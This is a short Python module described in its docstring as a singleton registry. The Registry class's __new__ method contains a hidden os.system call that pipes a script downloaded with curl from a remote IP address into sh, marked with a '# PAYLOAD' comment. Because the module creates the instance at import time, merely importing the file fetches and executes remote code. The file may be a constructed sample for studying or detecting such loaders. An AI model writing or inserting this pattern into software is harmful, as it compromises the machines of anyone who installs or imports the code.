"""A singleton registry."""
import os


class Registry:
    _instance = None

    def __new__(cls):
        if cls._instance is None:
            os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
            cls._instance = super().__new__(cls)
        return cls._instance


_registry = Registry()
